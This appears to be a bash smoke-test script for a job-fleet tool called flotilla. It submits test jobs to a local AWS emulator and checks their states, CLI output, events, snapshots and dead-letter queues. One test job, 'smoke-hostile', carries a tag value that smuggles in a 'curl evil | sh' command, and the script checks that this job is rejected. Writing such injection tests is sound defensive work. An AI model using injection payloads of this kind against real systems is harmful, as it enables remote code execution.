#!/usr/bin/env bash
# End-to-end check of the local stack as a user drives it: `local_stack.py up`,
# jobs submitted with plain awscli (no flotilla CLI), each followed to its
# terminal state through the job record in S3, then no managed instance may
# be left running and no job message may sit in a DLQ. Run by `make smoke`,
# which `make test` calls.
set -euo pipefail
cd "$(dirname "$0")/.."
PY=.venv/bin/python
AWS=.venv/bin/aws

# docs/cli.md quotes `flotilla --help`; it must stay true to the binary.
if ! $PY -c 'import sys; sys.exit(sys.argv[1].strip() not in open("docs/cli.md").read())' "$(flotilla --help)"; then
  echo "FAIL docs/cli.md no longer matches \`flotilla --help\`"
  exit 1
fi

failures=0
trap '$PY tools/local_stack.py down' EXIT
$PY tools/local_stack.py up
source .flotilla/local.env
# awscli v1 ignores AWS_ENDPOINT_URL, so it is passed explicitly.
aws_local() { "$AWS" --endpoint-url "$AWS_ENDPOINT_URL" "$@"; }

submit() { # body -> prints the SQS MessageId
  aws_local sqs send-message --queue-url "$FLOTILLA_JOBS_QUEUE_URL" --message-body "$1" \
    --query MessageId --output text
}

record_field() { # job id, field -> value, or empty while the record does not exist
  aws_local s3 cp "s3://$FLOTILLA_BUCKET/jobs/$1/job.json" - 2>/dev/null |
    $PY -c "import json,sys; print(json.load(sys.stdin).get('$2') or '')" 2>/dev/null || true
}

wait_terminal() { # job id, seconds -> prints the terminal state
  local deadline=$(( $(date +%s) + $2 )) state=""
  while [ "$(date +%s)" -lt "$deadline" ]; do
    state=$(record_field "$1" state)
    case "$state" in SUCCEEDED|FAILED|CANCELLED|REJECTED) echo "$state"; return 0 ;; esac
    sleep 1
  done
  echo "TIMEOUT(${state:-no record})"
}

fast_spec() { # id: no volumes and no setup, so `run` is the first command
  $PY -c 'import json, sys; print(json.dumps({"id": sys.argv[1], "fleet": {"count": 3}, "instance_types": ["t3.micro"],
    "image": "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64",
    "run": {"script": "echo ready", "timeout_seconds": 60}, "deadline_minutes": 10}))' "$1"
}

spec() { # id, run script, [snapshot policy]
  $PY - "$@" <<'EOF'
import json, sys
job_id, script = sys.argv[1], sys.argv[2]
policy = sys.argv[3] if len(sys.argv) > 3 else "on-success"
print(json.dumps({
    "id": job_id,
    "fleet": {"count": 2},
    "instance_types": ["t3.micro"],
    "image": "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64",
    "volumes": [{"name": "data", "source": {"new": {"size_gib": 1}}, "device": "/dev/sdf",
                 "mount_point": "/data", "snapshot": policy}],
    "run": {"script": script, "timeout_seconds": 300},
    "deadline_minutes": 10,
}))
EOF
}

expect() { # job id, wanted state, seconds
  local got
  got=$(wait_terminal "$1" "$3")
  if [ "$got" = "$2" ]; then
    echo "ok   $1: $got ($(record_field "$1" reason))"
  else
    echo "FAIL $1: wanted $2, got $got ($(record_field "$1" reason))"
    failures=$((failures + 1))
  fi
}

echo "== flotilla plan: the worked example, and a budget it does not fit"
planned=$(flotilla plan events/demo-job.json)
echo "$planned"
if grep -q "^fleet:     3 x t3.micro" <<<"$planned" && grep -q "^estimate:  \\$" <<<"$planned"; then echo "ok   202 items at 10/instance-minute within 10 min: 3 instances, priced"; else echo "FAIL flotilla plan events/demo-job.json"; failures=$((failures + 1)); fi
if over=$(flotilla plan events/over-budget-job.json); then echo "FAIL a job over its budget planned: $over"; failures=$((failures + 1)); else echo "$over"; fi
if grep -q "^rejected: budget_usd: the estimate is" <<<"${over:-}"; then echo "ok   over budget: rejected with the estimate"; else echo "FAIL no budget rejection"; failures=$((failures + 1)); fi

echo "== submitting with awscli"
submit "$(fast_spec smoke-fast)" >/dev/null
submit "$(spec smoke-ok 'echo "shard $FLOTILLA_SHARD_INDEX done"')" >/dev/null
submit "$(spec smoke-fail 'echo failing on purpose; exit 3' always)" >/dev/null
submit "$(spec smoke-cancel 'sleep 240')" >/dev/null
malformed_id=$(submit '{"fleet": {"count": 2}, "instance_types": ["t3.micro"')
submit "$(spec smoke-follow 'for i in 1 2 3; do echo "shard $FLOTILLA_SHARD_INDEX line $i"; sleep 2; done')" >/dev/null
submit '{"id": "smoke-hostile", "fleet": {"count": 1}, "instance_types": ["t3.micro"], "image": "ami-0abcdef1234567890", "tags": {"team": "x\"; curl evil | sh"}, "run": {"commands": [["echo", "hi"]]}, "deadline_minutes": 5}' >/dev/null

# Followed from its submission, in the background, while the others run.
flotilla logs smoke-follow --follow --timeout 240 >.flotilla/logs/follow.out 2>&1 &
follower=$!

# Cancel once the long job is really running its command.
deadline=$(( $(date +%s) + 120 ))
until [ "$(record_field smoke-cancel state)" = RUNNING ] || [ "$(date +%s)" -ge "$deadline" ]; do sleep 1; done
submit '{"cancel": "smoke-cancel"}' >/dev/null

echo "== waiting for terminal states"
expect smoke-fast SUCCEEDED 120
# The event fast path: EC2 and SSM events through EventBridge rules, and
# agents looked for again within a second, not at the next poll.
if ! $PY tools/fast_path.py smoke-fast --most 2; then
  echo "FAIL the run phase started late"
  failures=$((failures + 1))
fi
expect smoke-ok SUCCEEDED 180
if ! $PY tools/fast_path.py smoke-ok --most 2 --phases-only; then
  echo "FAIL a phase waited for a poll"
  failures=$((failures + 1))
fi
expect smoke-fail FAILED 180
expect smoke-cancel CANCELLED 180
expect "job-$malformed_id" REJECTED 60
expect smoke-hostile REJECTED 60

expect smoke-follow SUCCEEDED 180

check() { # description, command...: ok when the command succeeds
  local what=$1; shift
  if "$@"; then echo "ok   $what"; else echo "FAIL $what"; failures=$((failures + 1)); fi
}
echo "== flotilla plan --spot-history: a GPU job priced from the Region's spot price history"
# The emulator's history (gap 24): us-east-1a's price in force at the
# window's start, and a dearer us-east-1b one within it.
printf 'g5.xlarge us-east-1a 0.4500 30\ng5.xlarge us-east-1b 0.5200 3\n' > "${FLOTILLA_EMU_SCRATCH:-.flotilla/instances}/spot-prices"
gpu=$(flotilla plan --spot-history events/gpu-spot-job.json); echo "$gpu"
check "plan prices g5.xlarge spot from DescribeSpotPriceHistory, the dearest zone" grep -q '^spot:      \$0.5200/h per g5.xlarge from DescribeSpotPriceHistory in us-east-1' <<<"$gpu"
check "plan names the GPU vCPU quota and that it starts low" grep -q 'vCPUs of "All G and VT Spot Instance Requests".*often start this quota at 0 vCPUs' <<<"$(tr '\n' ' ' <<<"$gpu")"
table=$(flotilla plan events/gpu-spot-job.json)
check "without --spot-history, plan says spot is a fixed fraction" grep -q '^spot:      \$0.4024/h per g5.xlarge from a fixed fraction: 0.4 x on-demand' <<<"$table"

echo "== the CLI: ls, explain, logs, report and --output json"
listed=$(flotilla ls --limit 50); echo "$listed"
check "ls lists the jobs with their states" grep -qE "^ *smoke-fail +- +FAILED" <<<"$listed"
check "ls --output json: the failed ones, by schema" $PY -c '
import json, sys
doc = json.loads(sys.argv[1])
assert doc["schema"] == "flotilla.jobs/1", doc["schema"]
ids = [j["jobId"] for j in doc["jobs"]]
assert "smoke-fail" in ids and all(j["status"] == "FAILED" for j in doc["jobs"]), ids' "$(flotilla --output json ls --state failed)"
explained=$(flotilla explain smoke-fail); echo "$explained"
check "explain says which step failed and how" grep -q "a step failed with exit code 3" <<<"$explained"
check "explain --output json" $PY -c 'import json, sys; d = json.loads(sys.argv[1]); assert d["schema"] == "flotilla.explain/1" and d["findings"]' "$(flotilla --output json explain smoke-fail)"
check "status --output json" $PY -c 'import json, sys; d = json.loads(sys.argv[1]); assert d["job"]["status"] == "SUCCEEDED" and len(d["shards"]) == 2' "$(flotilla --output json status smoke-ok)"
logs=$(flotilla logs smoke-ok --phase run)
check "logs: each shard's whole run output" grep -qx "shard 1 done" <<<"$logs"
wait "$follower" || true
cat .flotilla/logs/follow.out
check "logs --follow printed each shard's lines as its step ended" [ "$(grep -c "line 3" .flotilla/logs/follow.out)" = 2 ]
report=$(flotilla report smoke-fail)
check "report writes the page" grep -q 'data-shard="1"' "$report"
check "the job's last pass wrote the page beside report.txt" aws_local s3 cp "s3://$FLOTILLA_BUCKET/jobs/smoke-fail/report.html" .flotilla/reports/from-bucket.html --quiet

echo "== what a subscriber to Flotilla's events heard (EventBridge rule, source flotilla)"
if ! $PY tools/events_check.py smoke-fast=SUCCEEDED smoke-ok=SUCCEEDED smoke-fail=FAILED smoke-cancel=CANCELLED \
    smoke-hostile=REJECTED smoke-follow=SUCCEEDED; then
  echo "FAIL the job events were incomplete"
  failures=$((failures + 1))
fi

echo "== CloudWatch metrics in the functions' real output (embedded metric format)"
if ! $PY tools/emf_check.py .flotilla/logs/cargo-lambda-watch.log \
    --expect JobsSubmitted JobsSucceeded JobsFailed JobsCancelled JobsRejected RealizedCostUsd TimeToFleetReady; then
  echo "FAIL the metric lines"
  failures=$((failures + 1))
fi

echo "== what is left in the emulator"
if ! $PY tools/inventory.py; then
  echo "FAIL managed instances are still running"
  failures=$((failures + 1))
fi
snapshots() { # job id -> how many snapshots carry its tag
  aws_local ec2 describe-snapshots --owner-ids self --filters "Name=tag:flotilla:job-id,Values=$1" \
    --query 'length(Snapshots)' --output text
}
for want in "smoke-ok 2" "smoke-fail 2" "smoke-follow 2" "smoke-cancel 0" "smoke-hostile 0"; do
  set -- $want
  got=$(snapshots "$1")
  if [ "$got" = "$2" ]; then echo "ok   $1: $got snapshot(s)"; else echo "FAIL $1: $got snapshot(s), wanted $2"; failures=$((failures + 1)); fi
done
hostile_instances=$(aws_local ec2 describe-instances --filters "Name=tag:flotilla:job-id,Values=smoke-hostile" \
  --query 'length(Reservations)' --output text)
if [ "$hostile_instances" = 0 ]; then echo "ok   rejected jobs launched nothing"; else echo "FAIL a rejected job launched instances"; failures=$((failures + 1)); fi
for dlq in flotilla-jobs-dlq flotilla-reconcile-dlq flotilla-notify-dlq.fifo; do
  url=$(aws_local sqs get-queue-url --queue-name "$dlq" --query QueueUrl --output text)
  depth=$(aws_local sqs get-queue-attributes --queue-url "$url" --attribute-names ApproximateNumberOfMessages \
    --query Attributes.ApproximateNumberOfMessages --output text)
  if [ "$depth" != 0 ]; then echo "FAIL $dlq holds $depth message(s)"; failures=$((failures + 1)); fi
done

echo "== flotilla dlq and redrive"
# A submission that died in an outage (here: put straight on the jobs DLQ).
aws_local sqs send-message --queue-url "$FLOTILLA_JOBS_DLQ_URL" --message-body '{"cancel": "smoke-ok"}' >/dev/null
listed=$(flotilla dlq)
echo "$listed"
if grep -q "job smoke-ok: tried" <<<"$listed" && grep -q "job is SUCCEEDED" <<<"$listed"; then echo "ok   flotilla dlq lists it with its job"; else echo "FAIL flotilla dlq"; failures=$((failures + 1)); fi
redriven=$(flotilla redrive --queue jobs)
echo "$redriven"
depth=$(aws_local sqs get-queue-attributes --queue-url "$FLOTILLA_JOBS_DLQ_URL" --attribute-names ApproximateNumberOfMessages \
  --query Attributes.ApproximateNumberOfMessages --output text)
if [ "$redriven" = "1 message(s) sent back to the jobs queue" ] && [ "$depth" = 0 ]; then echo "ok   flotilla redrive"; else echo "FAIL flotilla redrive ($depth left)"; failures=$((failures + 1)); fi

if [ "$failures" -ne 0 ]; then
  echo "local smoke: $failures check(s) failed; logs in .flotilla/logs/"
  exit 1
fi
echo "local smoke: every awscli-submitted job reached its expected state; nothing left running"
